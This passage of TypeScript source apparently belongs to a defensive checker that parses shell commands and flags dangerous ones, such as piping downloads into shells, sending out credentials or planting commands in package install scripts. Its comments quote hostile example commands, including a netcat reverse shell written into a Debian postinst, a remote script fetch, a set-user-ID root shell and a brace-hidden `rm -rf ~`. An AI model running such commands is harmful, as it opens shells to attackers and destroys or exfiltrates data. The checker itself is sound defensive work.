    const download = prev.length === 0 && redirects.some((r) => r.op === '>' || r.op === '>>') && !redirects.some((r) => r.op.startsWith('<'));
    if (connection && !download && !LOCAL_HOST.test(connection[1]!)) danger(st, `opens a raw session with another host (socat ${connection[0]})`);
  }
  // Input from /dev/null is none: `openssl s_client … </dev/null` sends nothing.
  const fed = prev.length > 0 || redirects.some((r) => (r.op === '<' && r.target.text !== '/dev/null') || r.op === '<&' || r.op === '<<<');
  // Sent only to a server on this machine, the input stays here; where it was read from is judged apart.
  if (fed && sendsInput(prog, args) && !(/^(curl|http|https|xh|xhs|nc|ncat|netcat|socat)$/.test(prog) && aimedOnlyAtThisMachine(args.map(hostOfSocatAddress))))
    danger(st, `sends its input to the network (${prog})`);
  if (!prev.length) return;
  const listing = prev.some((p) => {
    const w = unwrap(p.words, { ...st, reasons: [] });
    return LISTS_ENVIRONMENT(base(w[0]), w.slice(1)) || PRINTS_CLUSTER_VALUES(base(w[0]), w.slice(1)) || PRINTS_CONTAINER_CONFIG(base(w[0]), w.slice(1));
  });
  // jq's program keeps the values whose key or text matches a word (`contains("pass")`, `test("token")`);
  // a word looked up among names (`index("secrets")` in a role's resources) keeps names.
  if (
    listing &&
    prog === 'jq' &&
    args.some((a) => [...a.text.matchAll(/\b(contains|test|match|startswith|endswith)\(\s*"([^"]*)"/g)].some((m) => CREDENTIAL_FILTER.test(m[2]!)))
  )
    danger(st, `filters the environment's or the cluster's values for credentials (${prog})`);
  if (
    listing &&
    (NETWORK_SENDERS.has(prog) ||
      ENCODERS.has(prog) ||
      (/^(grep|egrep|rg|awk|sed)$/.test(prog) && args.some((a) => CREDENTIAL_FILTER.test(a.text) || CREDENTIAL_FAMILY_FILTER.test(a.text))))
  )
    danger(st, `moves the environment's credentials into ${prog}`);
}

/** Downloaded or decoded content piped into a shell or interpreter that reads its stdin. */
function fedByDownload(prog: string, args: Word[], st: State, prev: SimpleCommand[]): boolean {
  const readsStdin = SHELLS.has(prog)
    ? !args.some((a) => a.text === '-c')
    : INTERPRETERS.has(prog)
      ? operands(args).length === 0 || args.some((a) => a.text === '-')
      : false;
  return (
    readsStdin &&
    prev.some((p) => {
      const pw = unwrap(p.words, { ...st, reasons: [] });
      const pp = base(pw[0]);
      return (
        DOWNLOADERS.has(pp) ||
        // base64 decodes with -d or --decode, and macOS's also with -D.
        (pp === 'base64' && (hasFlag(pw.slice(1), 'd', ['--decode']) || hasFlag(pw.slice(1), 'D'))) ||
        (pp === 'xxd' && hasFlag(pw.slice(1), 'r')) ||
        // openssl's decryption and decoding (`openssl enc -d`, `openssl base64 -d`), and what its TLS client receives.
        (pp === 'openssl' && pw.slice(1).some((a) => a.text === '-d' || a.text === 's_client'))
      );
    })
  );
}

/** The backslash escapes of echo -e and printf that stand for one plain character; any other (`\x72`, `\0162`, `\u0072`) hides what it prints. */
const PLAIN_ESCAPES: Readonly<Record<string, string>> = { n: '\n', t: '\t', '\\': '\\', '"': '"', "'": "'" };

/**
 * echo -e's text or printf's format as printed: plain escapes replaced, and for printf `%%` and each
 * `%s` with the next value (the format reused while values remain); null where an escape or another
 * conversion (`%b`, `%c`) hides what is printed.
 */
function expandPrinted(text: string, values?: string[]): string | null {
  let out = '';
  let used = 0;
  do {
    for (let i = 0; i < text.length; i++) {
      const c = text[i]!;
      const next = text[i + 1] ?? '';
      if (c === '\\' && PLAIN_ESCAPES[next] !== undefined) out += PLAIN_ESCAPES[next];
      else if (c === '%' && values && (next === '%' || next === 's')) out += next === '%' ? '%' : (values[used++] ?? '');
      else if (c === '\\' || (c === '%' && values)) return null;
      else {
        out += c;
        continue;
      }
      i++;
    }
  } while (values && used > 0 && used < values.length);
  return out;
}

/**
 * What echo or printf prints, as a command text: undefined when `words` is neither; null when the
 * text is built at run time (`echo $CMD`) or hidden in escapes (`echo -e '\u0072m'`, printf's `%b`).
 */
function printedText(words: Word[]): string | null | undefined {
  const fp = base(words[0]);
  if (fp !== 'echo' && fp !== 'printf') return undefined;
  const rest = words.slice(1);
  if (rest.some((w) => w.expands)) return null;
  if (fp === 'printf')
    return rest.length && !rest[0]!.text.startsWith('-')
      ? expandPrinted(
          rest[0]!.text,
          rest.slice(1).map((w) => w.text),
        )
      : null;
  const escapes = rest.some((w) => /^-[a-zA-Z]*e/.test(w.text));
  const text = rest
    .filter((w) => !/^-[neE]+$/.test(w.text))
    .map((w) => w.text)
    .join(' ');
  return escapes ? expandPrinted(text) : text;
}

/** A program's own input named as a path (`bash /dev/stdin`, `python3 /dev/fd/0`). */
const STDIN_PATH = /^\/(dev\/stdin|dev\/fd\/0|proc\/self\/fd\/0)$/;

/** What a command reads on its input, and where that comes from (`text` null: built at run time or escaped). */
interface Input {
  text: string | null;
  from: string;
  /** Another command of the pipeline writes it (`echo … | sh`), rather than a redirection. */
  piped: boolean;
}

/** A file this text wrote, as an input: what it holds. */
function writtenFile(file: Word, st: State): Input | undefined {
  const text = file.expands || st.cwd === null ? undefined : st.written.get(path.resolve(st.cwd, file.text));
  return text === undefined ? undefined : { text, from: file.text, piped: false };
}

/**
 * What a command reads on its input when the text spells it out: a here-document, a here-string, a
 * file the text wrote, or what echo, printf or cat pipes to it.
 */
function inputOf(cmd: SimpleCommand, prev: SimpleCommand[], st: State): Input | undefined {
  const here = cmd.redirects.find((r) => ((r.op === '<<' || r.op === '<<-') && r.target.heredoc !== undefined) || r.op === '<<<');
  if (here?.op === '<<<') return { text: here.target.expands ? null : here.target.text, from: 'a here-string', piped: false };
  if (here) return { text: here.target.heredoc!, from: 'a here-document', piped: false };
  const file = cmd.redirects.find((r) => r.op === '<' && (r.fd === undefined || r.fd === 0))?.target;
  if (file) return writtenFile(file, st);
  const last = prev[prev.length - 1];
  if (!last) return undefined;
  const feeder = unwrap(last.words, { ...st, reasons: [] });
  const printed = printedText(feeder);
  if (printed !== undefined) return { text: printed, from: base(feeder[0]), piped: true };
  // Another program's output (`ps | awk '{print "kill -9", $2}' | sh`) is a script made at run time;
  // a download's is judged as one (fedByDownload).
  if (DOWNLOADERS.has(base(feeder[0]))) return undefined;
  if (base(feeder[0]) !== 'cat') return { text: null, from: base(feeder[0]), piped: true };
  const files = operands(feeder.slice(1));
  const catted = files.length === 0 ? inputOf(last, prev.slice(0, -1), st) : files.length === 1 ? writtenFile(files[0]!, st) : undefined;
  return catted && { ...catted, piped: true };
}

/** A shell or interpreter that reads its script from its input: no inline code, and no script named but the input itself (or a shell's `-s`). */
function readsScriptFromInput(prog: string, args: Word[]): boolean {
  if (hasInlineCode(prog, args)) return false;
  const script = operands(args).some((a) => a.text !== '-' && !STDIN_PATH.test(a.text));
  if (SHELLS.has(prog)) return !script || args.some((a) => a.text === '-s');
  return (INTERPRETERS.has(prog) || prog === 'osascript') && !script;
}

/**
 * The script a shell or interpreter reads from its input (`bash <<EOF`, `echo 'ls' | sh`, `python3 -
 * <<EOF`, `sh < run.sh`), judged when the text spells it out: for a shell, a command text; for an
 * interpreter, inline code (read as its inline option's). Whether it was judged.
 */
function judgeInput(prog: string, args: Word[], input: Input | undefined, st: State, wrapped: boolean): boolean {
  if (!input || !readsScriptFromInput(prog, args)) return false;
  if (input.text === null) danger(st, `feeds ${prog} text built at run time or escaped (${input.from}), which the checker cannot read`);
  else if (!judgedAsScript(prog, input.text, st, wrapped || input.piped)) danger(st, `runs ${prog} code from ${input.from}, which the checker cannot read`);
  return true;
}

/** A script's text judged as `runner` runs it: a command text for a shell, inline code for an interpreter. False when the checker cannot read it. */
function judgedAsScript(runner: string, text: string, st: State, payload: boolean | undefined): boolean {
  if (SHELLS.has(runner) || runner === 'source' || runner === '.') {
    analyzeNested(text, st, payload);
    return true;
  }
  return (INTERPRETERS.has(runner) || runner === 'osascript') && readableCode(runner, inlineOption(runner), text, st);
}

/** Debian's and RPM's maintainer scripts, in a package's tree or beside its name (`DEBIAN/postinst`, `debian/foo.preinst`). */
const MAINTAINER_SCRIPT = /(^|\/)(DEBIAN\/(pre|post)(inst|rm)|[^/]+\.(pre|post)(inst|rm))$/;

/**
 * Files this text writes with a text it spells out (`cat > run.sh <<'EOF'`, `echo '…' > x.sh`, `… |
 * tee x.sh`), by absolute path, so a later command that runs one is judged by what it holds. A
 * file another program writes is that program's output, as much the project's as the program.
 */
function rememberWrittenFiles(words: Word[], prog: string, args: Word[], cmd: SimpleCommand, prev: SimpleCommand[], st: State): void {
  if (st.cwd === null) return;
  const targets = cmd.redirects
    .filter((r) => /^(>|>\||>>|&>|&>>)$/.test(r.op) && (r.fd === undefined || r.fd === 1))
    .map((r) => ({ file: r.target, append: r.op.endsWith('>>') }));
  const tee = prog === 'tee';
  if (tee) {
    const append = args.some((a) => a.text === '--append' || /^-[a-zA-Z]*a/.test(a.text));
    for (const file of operands(args)) targets.push({ file, append });
  }
  if (!targets.length) return;
  const text =
    prog === 'echo' || prog === 'printf' ? printedText(words) : tee || (prog === 'cat' && !operands(args).length) ? inputOf(cmd, prev, st)?.text : undefined;
  for (const { file, append } of targets) {
    if (file.expands) continue;
    const at = path.resolve(st.cwd, file.text);
    if (text === undefined) {
      st.written.delete(at);
      continue;
    }
    const before = append ? st.written.get(at) : undefined;
    st.written.set(at, text === null || before === null ? null : before === undefined ? text : `${before}\n${text}`);
    // A package's maintainer script runs as root wherever the package is installed: a command written
    // into one (`echo "nc $IP 8888 -e /bin/bash" >> pkg/DEBIAN/postinst`) is judged as if run.
    // Its variables are left as written: whatever they hold, the command's shape is what it runs.
    const plantedText =
      text ??
      (prog === 'echo'
        ? operands(args)
            .map((a) => a.text)
            .join(' ')
        : null);
    // Refreshing the shared-library cache is what an install of a library does (Debian's own postinst
    // lines), not a plant.
    if (MAINTAINER_SCRIPT.test(at) && plantedText && !/^(\/usr)?(\/s?bin\/)?ldconfig$/.test(plantedText.trim())) {
      const planted = checkCommand(plantedText, st.ws);
      if (planted.dangerous)
        danger(st, `writes into a package's install script, which runs as root when it is installed: ${planted.reasons[0]} (${file.text})`);
    }
  }
}

/** A script the same text wrote and now runs (`runner` its shell or interpreter; none: by its own `#!` line) is judged by what was written. */
function judgeWrittenScript(shown: string, runner: string | undefined, text: string | null, st: State): void {
  if (text === null) return danger(st, `runs a script it wrote itself from text built at run time or escaped (${shown}), which the checker cannot read`);
  const shebang = /^#!\s*(\S+)(?:\s+(\S+))?/.exec(text);
  const lang = runner ?? (shebang ? (path.basename(shebang[1]!) === 'env' && shebang[2] ? shebang[2] : path.basename(shebang[1]!)) : 'sh');
  const body = shebang ? text.slice(text.indexOf('\n') + 1 || text.length) : text;
  if (!judgedAsScript(lang, body, st, st.payload)) danger(st, `runs ${lang} code it wrote itself, which the checker cannot read (${shown})`);
}

/** Signalling and changing directory write nothing to their output (`kill`, `xargs kill` fed pids by a pipe, `cd dir`). */
const PRINTS_NOTHING = /^(kill|pkill|cd)$/;
const printsNothing = (words: Word[]) => {
  const [prog, ...rest] = words.map((w) => w.text);
  if (prog === 'xargs') return PRINTS_NOTHING.test(rest.find((a) => !a.startsWith('-')) ?? '');
  return PRINTS_NOTHING.test(prog ?? '');
};
/**
 * `$(… >/dev/null)`, `$(cd dir; find … -exec sha256sum '{}' \; > ../sums)` or `` `xargs kill -9` ``: a substitution
 * whose output is all thrown away or written to a file, or whose last program prints nothing, expands to nothing,
 * so it names no program. Where a file is written is judged with the substitution's commands.
 */
function expandsToNothing(w: Word): boolean {
  if (w.nested.length !== 1 || !/^(\$\([\s\S]*\)|`[\s\S]*`)$/.test(w.text)) return false;
  try {
    return parseShell(w.nested[0]!).every((p) => {
      const last = p.commands[p.commands.length - 1];
      if (last && printsNothing(last.words)) return true;
      return !!last && last.redirects.some((r) => /^(>|&>|>\||>>|&>>)$/.test(r.op) && (r.fd === undefined || r.fd === 1));
    });
  } catch {
    return false;
  }
}

/**
 * What the shell runs of a text it cannot parse to the end: every complete line before the one where
 * parsing fails (`git push --force origin main` then an unterminated quote runs the push), read as the
 * longest run of whole lines that parses. A single broken line runs nothing.
 */
function completeLinesBefore(src: string): Pipeline[] {
  const lines = src.split('\n');
  for (let k = lines.length - 1; k > 0; k--) {
    try {
      return parseShell(lines.slice(0, k).join('\n'));
    } catch (e) {
      if (!(e instanceof ShellParseError)) throw e;
    }
  }
  return [];
}

/**
 * A single line that cannot be parsed, read as near as it can be: its redirection signs left out (a
 * dangling `>`, a `<SNIP>` inside a word), or an open quote, substitution or backquote closed.
 */
function repairedReading(src: string): Pipeline[] {
  for (const repaired of [src.replace(/[<>]+/g, ' '), `${src}'`, `${src}"`, `${src})`, `${src}\``]) {
    try {
      return parseShell(repaired);
    } catch (e) {
      if (!(e instanceof ShellParseError)) throw e;
    }
  }
  return [];
}

/** Brace expansions above this many words are left as written (a command spelled that way is judged by its other words). */
const MAX_BRACE_WORDS = 64;

/**
 * A word's brace expansion, as the shell makes it before running anything (`{rm,-rf,~}` is three
 * words, `a{,.bak}` two); `${…}` is a parameter, not a brace. A word without a `{…,…}` is itself.
 */
function expandBraces(text: string): string[] {
  let open = -1;
  let depth = 0;
  let comma = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (c === '\\') i++;
    else if (c === '$' && text[i + 1] === '{') {
      const close = text.indexOf('}', i);
      if (close < 0) return [text];
      i = close;
    } else if (c === '{') {
      if (depth++ === 0) {
        open = i;
        comma = false;
      }
    } else if (c === ',' && depth === 1) comma = true;
    else if (c === '}' && depth > 0 && --depth === 0 && comma) {
      const parts: string[] = [];
      let level = 0;
      let from = open + 1;
      for (let k = open + 1; k < i; k++) {
        if (text[k] === '{') level++;
        else if (text[k] === '}') level--;
        else if (text[k] === ',' && level === 0) {
          parts.push(text.slice(from, k));
          from = k + 1;
        }
      }
      parts.push(text.slice(from, i));
      const out = parts.flatMap((part) => expandBraces(text.slice(0, open) + part + text.slice(i + 1)));
      return out.length > MAX_BRACE_WORDS ? [text] : out;
    }
  }
  return [text];
}

/** A command's words with their brace expansions made: one word becomes the several the shell runs. */
function withBracesExpanded(words: Word[]): Word[] {
  if (!words.some((w) => w.braces)) return words;
  return words.flatMap((w) => {
    if (!w.braces) return [w];
    // An empty alternative (`a{,.bak}`) still makes a word; a whole word that expands to nothing is dropped by the shell.
    return expandBraces(w.text)
      .filter((t) => t !== '')
      .map((t, k) => ({ ...w, text: t, nested: k === 0 ? w.nested : [] }));
  });
}

/** A command's words without the shell keywords around it (`if`, `do`, `{`), and a function's body without `function NAME {` before it on its line. */
function withoutKeywords(words: Word[]): Word[] {
  const brace = words[0]?.text === 'function' ? words.findIndex((w) => w.text === '{') : -1;
  let k = brace > 0 ? brace + 1 : 0;
  while (k < words.length && KEYWORDS.includes(words[k]!.text)) k++;
  return k ? words.slice(k) : words;
}

/** `${x@P}`: the variable's value expanded as a prompt string, which runs the command substitutions in it. */
const PROMPT_EXPANSION = /\$\{[^}]*@P\}/;

/**
 * A program picked by a computed name from a fixed directory of the workspace (`./bin/tool-"$arch"`,
 * `bin/tool-$(uname -s)-amd64`): whichever file it is, it is one of the project's, run as its
 * scripts are. The name must start with fixed text, so the computed part cannot climb out.
 */
function pickedInWorkspace(w: Word, st: State): boolean {
  const slash = w.text.lastIndexOf('/');
  if (slash <= 0) return false;
  const dir = w.text.slice(0, slash);
  if (/[$`~]/.test(dir) || dir.split('/').includes('..') || !/^[\w.-]+[^/]*$/.test(w.text.slice(slash + 1))) return false;
  return classify(dir, st).cls === 'inside';
}

/** The loop variable is what the command runs (`$step`, `sh -c "$step"`, `eval "$cmd"`), not one of its arguments. */
function runsLoopValue(words: Word[], name: string): boolean {
  const [first, ...rest] = withoutKeywords(words);
  const refers = (w: Word | undefined) => w !== undefined && loopReference(name).test(w.text);
  if (!first) return false;
  if (refers(first)) return true;
  if (first.text === 'eval') return rest.some(refers);
  const c = rest.findIndex((w) => /^-[a-zA-Z]*c[a-zA-Z]*$/.test(w.text));
  return SHELLS.has(base(first)) && c >= 0 && refers(rest[c + 1]);
}

/** The commands of a pipeline whose output the next one reads. */
const FEEDS_NEXT = new WeakSet<SimpleCommand>();

function analyzeCommand(cmd: SimpleCommand, st: State, prev: SimpleCommand[], loopsPutIn: ReadonlySet<string> = new Set()): void {
  const variants = st.loops && withLoopValues(cmd, st.loops, loopsPutIn);
  if (variants) {
    const putIn = new Set([...loopsPutIn, variants.name]);
    // Read as written too, unless every value is known and the value is the command run: a loop's
    // commands over several values (`arping 10.0.${n}.1`, `ping 192.168.1.$i`) are a sweep no one
    // value shows, while a command the list spells out (`sh -c "$step"`) is judged by what it is.
    const known = variants.complete && runsLoopValue(cmd.words, variants.name);
    for (const v of known ? variants.commands : [...variants.commands, cmd]) analyzeCommand(v, st, prev, putIn);
    return;
  }
  for (const w of cmd.words) for (const n of w.nested) analyzeSubstitution(n, st);
  const prompt = [...cmd.words, ...cmd.redirects.map((r) => r.target)].find((w) => PROMPT_EXPANSION.test(w.text));
  if (prompt) danger(st, `expands a variable as a prompt (${prompt.text}), which runs the commands its value holds`);
  checkRedirects(cmd.redirects, st, base(cmd.words[0]));
  let words = cmd.words;
  words = withoutKeywords(words);
  if (!words.length) return;
  if (['for', 'case', 'select', 'function'].includes(words[0]!.text)) {
    st.repeatable = false;
    const binding = loopBinding(words);
    // With IFS set, the list splits where the text chose, not at the blanks the values were read by.
    if (binding && st.setsFieldSeparator) binding[1].complete = false;
    if (binding) bindLoop((st.loops ??= new Map()), binding);
    return;
  }
  st.xargs = false;
  const first = base(words[0]);
  const prose = VCS.has(first);
  const listsNames = LISTS_NAMES.test(first) || (first === 'find' && !words.some((w) => FIND_ACTS.test(w.text)));
  const pattern = searchPattern(words);
  const disk = words.slice(1).find((w) => DISK_DEVICE.test(w.text));
  if (disk && !DISK_METADATA.test(first)) danger(st, `reads or writes a disk raw (${words[0]!.text} ${disk.text})`);
  const namedDisk = DISK_WRITERS.test(first) ? words.slice(1).find((w) => DISK_NAMED.test(w.text.replace(/^(of|if)=/, ''))) : undefined;
  if (namedDisk) danger(st, `writes or formats the disk a variable or placeholder names (${words[0]!.text} ${namedDisk.text})`);
  const runtime = CONTAINER_RUNTIMES.has(first);
  // echo's and printf's words are text printed, not places opened (`echo "/dev/kmem not accessible"`,
  // `echo "adding $USER to /etc/sudoers"`): only a credential variable they expand shows a secret,
  // unless a pipe hands them to the next command (`echo /etc/shadow | xargs cat`).
  const printsText = /^(echo|printf)$/.test(first) && !FEEDS_NEXT.has(cmd);
  // The null command discards its words: `: ${PASSWORD:=${PGPASSWORD:-odoo}}` only gives a default.
  const discards = words[0]?.text === ':' && !FEEDS_NEXT.has(cmd);
  // The words after a new container's image are its command's, paths of its own files: a home there
  // (`/root/firmware`) is the fresh container's. A running container's (`exec`) holds what was put there.
  const containerWords = runtime && !words.some((w) => w.text === 'exec') ? containerImageIndex(words.slice(1)) + 2 : 0;
  // A test of whether a variable is empty (`[ -z "$NPM_TOKEN" ]`) shows nothing of its value.
  const testsEmptiness = /^(\[|\[\[|test)$/.test(first);
  // sed's substitution (`s#"cwd": "/"#"cwd": "/proc/self/fd/7"#g`) edits text: a path in it is text, not a place opened.
  const edits = /^g?sed$/.test(first);
  // A directory made or given its modes in the project (`mkdir -p .ddev/homeadditions/.ssh`, `chmod 600 .ddev/…/.ssh/*`)
  // opens no secret: what it will hold is the project's, and reading it later is judged then.
  const shapesPlace = /^(mkdir|chmod)$/.test(first);
  words.forEach((w, k) => {
    if (shapesPlace && k > 0 && !w.expands && /^(\.\/)?[\w.-]+\//.test(w.text) && !/(^|\/)\.\.(\/|$)/.test(w.text)) return;
    if (testsEmptiness && /^-[zn]$/.test(words[k - 1]?.text ?? '') && w.nested.length === 0) return;
    if (edits && k > 0 && !w.expands && SED_SUBSTITUTION.test(w.text)) return;
    if (prose && PROSE_OPTION.test(words[k - 1]?.text ?? '')) return;
    if (containerWords > 1 && k >= containerWords && !namesSecretPlace(w.text) && !w.expands) return;
    if (discards && k > 0 && w.nested.length === 0 && !namesSecretPlace(w.text)) return;
    if (printsText && k > 0) return w.expands ? checkSecretWord(w, st, listsNames, false, true) : undefined;
    // A volume's target (`-v ollama:/root/.ollama`) is a path in the container; only its source is this host's.
    const hostSide = runtime && /^(-v|--volume)$/.test(words[k - 1]?.text ?? '') ? { ...w, text: w.text.split(':')[0]! } : w;
    checkSecretWord(hostSide, st, listsNames, w === pattern);
  });
  // A CI workflow's secret written into the command (`--token ${{ secrets.NPM_TOKEN }}`): the runner puts the
  // secret's value there before the shell sees it, and the command hands it on.
  const ciSecret = words.some((w) => w.text.includes('${{')) ? CI_SECRET.exec(words.map((w) => w.text).join(' ')) : null;
  if (ciSecret) danger(st, `hands a CI secret to the command (${ciSecret[0]})`);
  // A cluster's secrets asked of its API by their path (`$APISERVER/api/v1/namespaces/vault/secrets`), whatever client asks.
  const clusterSecrets = words.find((w) => /\/api\/v1\/(namespaces\/[^/\s]+\/)?secrets(\/|\?|"?$)/.test(w.text));
  if (clusterSecrets) danger(st, `reads a cluster's secrets through its API (${clusterSecrets.text})`);
  checkAssignments(first === 'export' ? words.slice(1) : words, st, first === 'alias');
  // Leading assignments (`x=$(ls)`, `V=1 make`) set variables; what their substitutions run was judged above.
  const env: string[] = [];
  const assignments: Word[] = [];
  for (const w of words)
    if (ASSIGNMENT.test(w.text)) {
      env.push(w.text);
      assignments.push(w);
    } else break;
  while (words.length && (ASSIGNMENT.test(words[0]!.text) || expandsToNothing(words[0]!))) words = words.slice(1);
  if (!words.length) return rememberPrograms(assignments, st);
  words = powershellStatement(words) ?? words;
  // An arithmetic command (`(( $? == 1 ))`) runs no program; its substitutions were judged above.
  if (!words.length || ARITHMETIC_COMMAND.test(words[0]!.text)) return;
  words = [...namedProgram(words[0]!, st), ...words.slice(1)];
  // A Makefile's own function called as a recipe line (`$(call go-install-tool,…)`, `$(call twine-release)`) runs what
  // the Makefile defines, as a make target does: it is judged by its name, as a target is.
  const makeFunction = words.length === 1 ? /^\$\(call ([\w-]+)(,[^()]*(\([^()]*\)[^()]*)*)?\)$/.exec(words[0]!.text)?.[1] : undefined;
  if (makeFunction !== undefined)
    return void (outwardTarget(makeFunction) && danger(st, `calls a Makefile function named for publishing, uploading or deploying (${makeFunction})`));
  if (words[0]!.expands && !pickedInWorkspace(words[0]!, st))
    return danger(st, `runs a command whose name is computed (${words[0]!.text}); what runs cannot be seen before it runs`);
  const stripped: Stripped[] = [];
  const unwrapped = unwrap([caseFolded(words[0]!), ...words.slice(1)], st, stripped);
  // Read before a find over the workspace clears it below: the names xargs hands on are still its input's.
  const namesFromInput = (st as State).xargs === true;
  for (const w of stripped) for (const p of payloadsOf(w.prog, w.words)) judgePayload(p, st);
  // sshpass types a password into the login its command starts (ssh, scp, rsync, ansible), whichever host.
  if (unwrapped.length > 0 && stripped.some((w) => w.prog === 'sshpass')) danger(st, 'logs in with a password typed for the program it starts (sshpass)');
  if (stripped.some((w) => /^proxychains4?$/.test(w.prog))) st.proxied = true;
  for (const w of stripped) if (HOST_LAUNCHING_WRAPPERS.has(w.prog)) launchesOnHosts(w.prog, w.words, st);
  // A wrapper's command is named as a command is (`xargs -0 $HOME/.dotnet/tools/fantomas`).
  words = helperNamedForGit(unwrapped.length ? [...namedProgram(caseFolded(unwrapped[0]!), st), ...unwrapped.slice(1)] : unwrapped);
  if (!words.length) return;
  if (words[0]!.expands && !pickedInWorkspace(words[0]!, st))
    return danger(st, `runs a command whose name is computed (${words[0]!.text}); what runs cannot be seen before it runs`);
  // What a find of the system's or the home's directories lists for xargs are files under where it looked
  // (`find /usr/bin -type f | xargs upx`): the command is judged as given one of them, as find's own `-exec … {}` is.
  const foundElsewhere =
    st.xargs && prev.length && !stripped.some((w) => w.prog === 'xargs' && w.words.some((a) => /^(-I|-i|--replace)/.test(a.text)))
      ? (findStarts(throughLineFilters(prev)) ?? []).filter((w) => !w.expands && /^(\/|~)/.test(w.text) && !['inside', 'all'].includes(classify(w, st).cls))
      : [];
  if (foundElsewhere.length) words = [...words, ...foundElsewhere.map((w) => ({ ...w, text: path.posix.join(w.text, FOUND) }))];
  const prog = tableName(words[0]!.text, base(words[0]));
  const args = words.slice(1);
  // An alias's value is the command its name runs from then on, where aliases expand: the `bash -c` commands
  // run by expands none unless the text turns them on; a text another shell runs (sh, zsh, `bash -i`) may. Its
  // words are a name and a command's text, not paths or options of its own (`alias sci='python /path/sci.py'`).
  if (prog === 'alias') {
    if (st.expandsAliases || st.depth > 0) for (const a of args) if (/^[^=\s-][^=\s]*=/.test(a.text)) analyzeNested(a.text.slice(a.text.indexOf('=') + 1), st);
    return;
  }
  const wrapped = stripped.length > 0 || st.payload === true;
  if (st.xargs && prev.length) searchOfFoundFiles(words, prev.at(-1)!, st);
  // What a find over the workspace lists for xargs are the workspace's own paths, as a glob's would be,
  // and so are the lines a filter between them keeps (`find . | grep __pycache__ | xargs rm -r`).
  if (st.xargs && prev.length && findsInWorkspace(throughLineFilters(prev), st)) st.xargs = false;
  flagOpaque(prog, args, st, words[0]!.text);
  judgeProgramPlace(words[0]!, prog, st, args);
  // osascript's scripts and Automator's workflows (which run shell scripts and AppleScript) are scripts too.
  const scriptRunner = prog === 'osascript' || prog === 'automator';
  // Code given inline (`perl -ne '/^(\d+)/; …'`) is no script's path, whatever it starts with.
  if ((runsCode(prog) || scriptRunner) && !hasInlineCode(prog, args)) judgeScriptPlace(prog, args, st, !INTERPRETERS.has(prog) && !scriptRunner);
  // Downloaded code run through a shell, eval or an interpreter. Each substitution was judged above; it is
  // read again on its own, for whether it downloads, only where code runs.
  const shellOrEval = SHELLS.has(prog) || prog === 'eval';
  const runsGivenCode = runsCode(prog) || prog === 'eval';
  const nestedDownloads = runsGivenCode && args.some((a) => a.nested.length > 0 && a.nested.some((n) => analyzeText(n, st.ws, st.cwd, st.depth + 1).downloads));
  if (nestedDownloads) danger(st, 'runs code downloaded from the network');
  if (runsGivenCode && prev.length && fedByDownload(prog, args, st, prev)) danger(st, `pipes downloaded or decoded content into ${prog}`);
  // xargs hands its input on as words: the command it starts reads no script from the pipe.
  const input = namesFromInput ? undefined : inputOf(cmd, prev, st);
  rememberWrittenFiles(words, prog, args, cmd, prev, st);
  const echoed = judgeInput(prog, args, input, st, wrapped);
  // An ftp or tftp session with a host sends, fetches and deletes files there at what is typed;
  // commands it is given on its input are read by their lines.
  const typed = input?.text;
  if (/^(ftp|sftp|tftp|lftp)$/.test(prog) && typed && TRANSFER_SENDS.test(typed)) danger(st, `sends files to another host (${prog} put)`);
  // A session with a server on this machine (`ftp localhost`, a test's) leaves the files here.
  if (
    /^(ftp|tftp)$/.test(prog) &&
    typed === undefined &&
    operands(args).length > 0 &&
    !THIS_MACHINE_ADDRESS.test(operands(args)[0]!.text) &&
    !args.some((a) => /^(-h|--help|-V|--version)$/.test(a.text))
  )
    danger(st, `opens a file session with another host whose typed commands send or delete files there (${prog})`);
  // A shell or interpreter that some other program starts, reading its commands from its input.
  if (
    wrapped &&
    !echoed &&
    (SHELLS.has(prog) || INTERPRETERS.has(prog)) &&
    !hasInlineCode(prog, args) &&
    !onlyAsksAbout(args) &&
    // An interpreter's `-v`, `-VV` or `-m` alone prints its version or modules (`docker exec app php -v`),
    // and PHP's `-i` and `--ini` its configuration.
    !(INTERPRETERS.has(prog) && args.length === 1 && (/^-([vm]|VV)$/.test(args[0]!.text) || (prog === 'php' && /^(-i|--ini)$/.test(args[0]!.text)))) &&
    !operands(args).some((a) => a.text !== '-' && !a.text.startsWith('-'))
  )
    danger(st, `starts a shell or interpreter (${prog}) whose commands come from its input, unseen`);
  // `-p` keeps the effective user a set-user-ID copy of the shell gives it, which bash otherwise drops:
  // the step that turns such a copy into a root shell.
  const shellOptions = args.slice(0, (args.findIndex((a) => !a.text.startsWith('-')) + 1 || args.length + 1) - 1);
  // A copy of bash under another name (`/tmp/rootbash -p`, the copy a privilege escalation leaves) is bash too.
  if ((/^(sh|bash|dash|ksh|zsh|ash)$/.test(prog) || /^[\w.-]+bash$/.test(prog)) && shellOptions.some((a) => /^-[a-zA-Z]*p[a-zA-Z]*$/.test(a.text)))
    danger(st, `starts a shell that keeps a set-user-ID copy's privileges (${prog} -p)`);
  // A credential written into a URL (`https://ghp_…@github.com/x`, `http://<40 hex>@localhost:3000/x.git`):
  // the program logs in with it, and the command's text now holds the secret.
  const tokenUrl = args.find((a) => CREDENTIAL_IN_URL.test(a.text));
  if (tokenUrl) danger(st, `logs in with a token written into a URL (${tokenUrl.text.replace(/\/\/[^@/]*@/, '//…@')})`);
  // A token or key in another host's query string (`…/tokeninfo?access_token=ya29…`, `?apikey=…`) is sent
  // there, and kept in its logs; one for a service on this machine stays here.
  const tokenQuery = args.find((a) => CREDENTIAL_IN_QUERY.test(a.text) && !namesThisMachine(a.text));
  if (tokenQuery) danger(st, `sends a token or key written into a URL's query to another host (${tokenQuery.text.replace(/\?.*$/s, '?…')})`);
  // A tool fed a file of sites or hosts on its input (`cat urls.txt | smugglex`, `cat domains.txt | subjack`)
  // goes through each of them; a text filter only reads the lines.
  const feeder = prev[prev.length - 1];
  const list = feeder && base(feeder.words[0]) === 'cat' ? feeder.words.slice(1).find((w) => TARGET_LIST_FILE.test(w.text)) : undefined;
  if (list && !isReadOnly(prog) && !TEXT_PROCESSORS.test(prog))
    danger(st, `goes through the sites or hosts listed in ${list.text}, given on its input (${prog})`);
  // A script or a program no table names, handed a whole command line (`sh undock.sh "curl -sL http://10.0.0.127/r.sh
  // -o /tmp/r.sh"`, `./in-vm.sh "bash -c /tmp/x"`), runs it somewhere: it is judged as a command of its own.
  const handedArgs = SHELLS.has(prog)
    ? args.slice(args.findIndex((a) => !a.text.startsWith('-')) + 1)
    : /\/|\.(sh|py|pl|rb|ps1)$/.test(words[0]!.text) && !RULES.has(prog)
      ? args
      : [];
